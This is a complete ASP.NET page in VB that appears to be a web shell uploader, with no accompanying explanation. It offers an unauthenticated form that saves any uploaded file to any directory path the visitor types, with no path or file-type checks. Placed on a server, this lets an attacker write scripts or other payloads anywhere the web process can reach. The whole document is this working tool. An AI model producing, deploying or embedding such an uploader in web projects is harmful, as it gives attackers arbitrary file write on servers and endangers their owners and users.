<%@ Page Language="VB" %>
<script runat="server">
Sub Go(ByVal s As Object, ByVal e As EventArgs)
    If Not (f.PostedFile Is Nothing) Then
        f.PostedFile.SaveAs(dir.Value & "\" & System.IO.Path.GetFileName(f.PostedFile.FileName))
    End If
End Sub
</script>
<html><body><form enctype="multipart/form-data" runat="server">
<input type="file" id="f" runat="server" /><input type="text" id="dir" runat="server" />
<input type="submit" runat="server" onserverclick="Go" value="Send" />
</form></body></html>
